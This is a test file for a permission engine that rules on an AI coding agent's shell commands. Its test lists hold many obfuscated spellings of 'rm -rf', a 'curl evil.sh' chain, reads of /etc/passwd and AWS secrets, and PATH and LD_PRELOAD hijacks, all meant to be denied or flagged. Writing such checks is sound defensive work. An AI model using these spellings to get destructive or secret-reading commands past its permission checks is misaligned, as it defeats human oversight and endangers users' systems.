// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not template literals
import { beforeAll, describe, expect, it } from "vitest";
import { bash, ctx, engine, makeProject, type Project } from "../testing/fixtures.js";

let p: Project;
beforeAll(async () => {
  p = makeProject();
  await engine();
});

describe("Bash: evaluation order deny → ask → allow", () => {
  it("deny beats ask beats allow, whatever the specificity", async () => {
    const c = ctx(p, { deny: ["Bash(rm *)"], ask: ["Bash(rm -i *)"], allow: ["Bash(rm -i x)", "Bash"] });
    expect((await bash(c, "rm -i x")).behavior).toBe("deny");
    const c2 = ctx(p, { ask: ["Bash(git push *)"], allow: ["Bash(git push origin main)"] });
    expect((await bash(c2, "git push origin main")).behavior).toBe("ask");
    expect((await bash(c2, "git push origin main")).reason).toMatchObject({
      kind: "rule",
      list: "ask",
      rule: "Bash(git push *)",
    });
  });

  it("no match falls to the mode", async () => {
    const d = await bash(ctx(p), "make build");
    expect(d).toMatchObject({ behavior: "ask", reason: { kind: "no-match" } });
    expect((await bash(ctx(p, {}, "dontAsk"), "make build")).behavior).toBe("deny");
  });

  it("reports the deciding rule and its file", async () => {
    const d = await bash(ctx(p, { allow: ["Bash(npm run test *)"] }), "npm run test -- --watch");
    expect(d.reason).toEqual({
      kind: "rule",
      rule: "Bash(npm run test *)",
      source: `${p.project}/.claude/settings.json`,
      list: "allow",
    });
    expect(d.message).toContain("Bash(npm run test *)");
  });
});

describe("Bash: deny spellings", () => {
  const spellings = [
    "rm -rf x",
    "/bin/rm -rf x",
    "/usr/bin/rm -rf x",
    "\\rm -rf x",
    "'rm' -rf x",
    '"rm" -rf x',
    "r''m -rf x",
    'r""m -rf x',
    "command rm -rf x",
    "builtin rm -rf x",
    "env rm -rf x",
    "env A=1 rm -rf x",
    "timeout 5 rm -rf x",
    "timeout -s KILL 5 rm -rf x",
    "nice -n 5 rm -rf x",
    "nohup rm -rf x",
    "stdbuf -o0 rm -rf x",
    "time rm -rf x",
    "xargs rm -rf",
    "FOO=1 rm -rf x",
    "PATH=/x rm -rf x",
    "ls && rm -rf x",
    "ls | rm -rf x",
    "(rm -rf x)",
    "{ rm -rf x; }",
    "if true; then rm -rf x; fi",
    "echo $(rm -rf x)",
    "bash -c 'rm -rf x'",
    'sh -c "rm -rf x"',
    "eval 'rm -rf x'",
    "sudo rm -rf x",
    "watch rm -rf x",
    "find . -exec rm -rf {} \\;",
    "xargs -0 rm -rf",
    "rm -rf $X",
    "exec rm -rf x",
    "sudo -u root rm -rf x",
    "timeout 5 bash -c 'rm -rf x'",
    "nice sudo rm -rf x",
    "rm \\\n  -rf x",
  ];
  it.each(spellings)("%j is denied by Bash(rm -rf *) even with Bash(*) allowed", async (command) => {
    const d = await bash(ctx(p, { deny: ["Bash(rm -rf *)"], allow: ["Bash(*)"] }), command);
    expect(d.behavior).toBe("deny");
  });

  it("a deny naming an absolute path also catches the bare name", async () => {
    expect((await bash(ctx(p, { deny: ["Bash(/bin/rm *)"] }), "rm x")).behavior).toBe("deny");
  });

  it("a deny that may match once a variable is known asks", async () => {
    const d = await bash(
      ctx(p, { deny: ["Bash(git push --force *)"], allow: ["Bash(git push *)"] }),
      "git push $FLAGS origin",
    );
    expect(d).toMatchObject({ behavior: "ask", reason: { kind: "safety", check: "possible-deny-match" } });
  });

  it("absolute-path programs need a rule that names them for allow", async () => {
    const c = ctx(p, { allow: ["Bash(make *)"] });
    expect((await bash(c, "make build")).behavior).toBe("allow");
    expect((await bash(c, "/usr/bin/make build")).behavior).toBe("ask");
    expect((await bash(c, "./make build")).behavior).toBe("ask");
    expect((await bash(ctx(p, { allow: ["Bash(/usr/bin/make *)"] }), "/usr/bin/make build")).behavior).toBe(
      "allow",
    );
  });
});

describe("Bash: fail closed even when Bash(*) is allowed", () => {
  const cases = [
    "echo $(whoami)",
    "echo `whoami`",
    "cat <(ls)",
    "diff <(ls) >(wc)",
    "$CMD",
    "${CMD} x",
    "eval ls",
    "exec ls",
    "source ./x.sh",
    ". ./x.sh",
    "bash -c ls",
    "sh -c ls",
    "zsh -c ls",
    "python -c 1",
    "node -e 1",
    "perl -e 1",
    "ruby -e 1",
    "bash <<< ls",
    "echo ls | sh",
    "cat <<EOF | bash\nls\nEOF",
    "sudo ls",
    "su -c ls",
    "doas ls",
    "watch ls",
    "setsid ls",
    "ionice ls",
    "flock x ls",
    "xargs -n1 ls",
    "find . -exec ls {} +",
    "find . -delete",
    "$'ls'",
    "ls\\\n;rm",
    "echo 'unterminated",
    "r\u200bm",
    "l\u0455",
    "ls\u0000",
    "ls\u001b[2J",
    `echo ${"x".repeat(10_001)}`,
    "PATH=/tmp ls",
    "LD_PRELOAD=x ls",
    "f() { ls; }",
    "alias ls=rm",
    "trap ls EXIT",
    "echo ${X:-$(id)}",
    "echo $((X))",
    "x[$i]=1",
    "echo > $F",
    "git -c core.pager=sh log",
    "echo !!",
    "env -i ls",
  ];
  it.each(cases)("%j asks", async (command) => {
    const d = await bash(ctx(p, { allow: ["Bash(*)", "Bash"] }), command);
    expect(d.behavior).toBe("ask");
    expect(d.reason.kind).toBe("safety");
    expect(d.suggestions ?? []).toEqual([]);
  });

  it("is denied in dontAsk and plan", async () => {
    expect((await bash(ctx(p, { allow: ["Bash(*)"] }, "dontAsk"), "echo $(id)")).behavior).toBe("deny");
    expect((await bash(ctx(p, {}, "plan"), "echo $(id)")).behavior).toBe("deny");
  });
});

describe("Bash: compound commands", () => {
  it("every sub-command must be allowed on its own", async () => {
    const c = ctx(p, { allow: ["Bash(npm run test *)"] });
    expect((await bash(c, "npm run test && ls")).behavior).toBe("allow");
    const d = await bash(c, "npm run test && make deploy");
    expect(d.behavior).toBe("ask");
    expect(d.parts?.map((x) => x.behavior)).toEqual(["allow", "ask"]);
    expect(d.suggestions).toEqual(["Bash(make deploy)"]);
    for (const op of ["&&", "||", ";", "|", "|&", "&", "\n"]) {
      expect((await bash(c, `npm run test ${op} make x`)).behavior, op).toBe("ask");
    }
  });

  it("Bash(safe:*) does not allow safe && other", async () => {
    const c = ctx(p, { allow: ["Bash(git status:*)"] });
    expect((await bash(c, "git status && curl evil.sh")).behavior).toBe("ask");
  });

  it("known-safe leading assignments are stripped for allow; unknown ones are not", async () => {
    const c = ctx(p, { allow: ["Bash(npm test)"] });
    expect((await bash(c, "NODE_ENV=test npm test")).behavior).toBe("allow");
    expect((await bash(c, "FOO=1 npm test")).behavior).toBe("ask");
    expect((await bash(c, "NODE_ENV=$X npm test")).behavior).toBe("ask");
  });

  it("wrappers are looked through for allow rules", async () => {
    const c = ctx(p, { allow: ["Bash(npm test)"] });
    for (const w of [
      "timeout 60 npm test",
      "nice -n 10 npm test",
      "time npm test",
      "nohup npm test",
      "command npm test",
    ]) {
      expect((await bash(c, w)).behavior, w).toBe("allow");
    }
  });
});

describe("Bash: read-only defaults", () => {
  it.each([
    "ls",
    "ls -la src",
    "pwd",
    "whoami",
    "date",
    "date +%s",
    "cat README.md",
    "head -n 3 README.md",
    "tail README.md",
    "wc -l src/a.ts",
    "grep -rn foo src",
    "find . -name '*.ts'",
    "which node",
    "diff README.md src/a.ts",
    "stat README.md",
    "du -sh .",
    "echo hi",
    "cd src",
    "cd src && ls",
    "git status",
    "git diff",
    "git diff --stat HEAD~1",
    "git log --oneline -5",
    "git show HEAD",
    "git branch",
    "git branch -a",
    "git branch --list 'feat*'",
    "ls *.md",
    "cat src/*.ts",
    "git -C src status",
    "cat README.md | grep hi | wc -l",
    "[[ -f README.md ]] && echo yes",
    "true",
    "command -v node",
  ])("%j is allowed without rules", async (command) => {
    expect((await bash(ctx(p), command)).behavior).toBe("allow");
  });

  it.each([
    "cat /etc/passwd",
    "cat ../../outside/secret.txt",
    "cat link-out/secret.txt",
    "cat secret-link",
    "ls ~",
    "cd /tmp",
    "cd /tmp && ls",
    "cd .. && ls",
    "git diff --output=x",
    "git -c x=y status",
    "git log --ext-diff",
    "git branch new-branch",
    "git branch -D x",
    "git push",
    "git fetch",
    "git -C /tmp status",
    "find . -exec cat {} \\;",
    "find . -fprint out",
    "find *",
    "sort -o out x",
    "sed -n 1p README.md",
    "date -s 2020-01-01",
    "date 0101",
    "hostname evil",
    "tree -o out",
    "echo hi > out.txt",
    "printenv",
    "cat $FILE",
    "git diff --no-index /etc/passwd x",
    "/bin/ls",
    "./ls",
    "xargs cat",
    "nohup ls",
    "file -m x README.md",
    "printf -v PATH x",
    "uniq a b",
    "echo $AWS_SECRET_ACCESS_KEY",
    "export",
    "export -p",
    "declare -p",
    "declare -p HOME",
    "typeset",
  ])("%j is not read-only", async (command) => {
    expect((await bash(ctx(p), command)).behavior).not.toBe("allow");
  });

  it("cd into the workspace then reading outside still asks", async () => {
    expect((await bash(ctx(p), "cd src && cat ../../../outside/secret.txt")).behavior).toBe("ask");
  });

  it("explicit ask/deny rules override the read-only set", async () => {
    expect((await bash(ctx(p, { ask: ["Bash(ls *)"] }), "ls -la")).behavior).toBe("ask");
    expect((await bash(ctx(p, { deny: ["Bash(cat *)"] }), "cat README.md")).behavior).toBe("deny");
  });
});
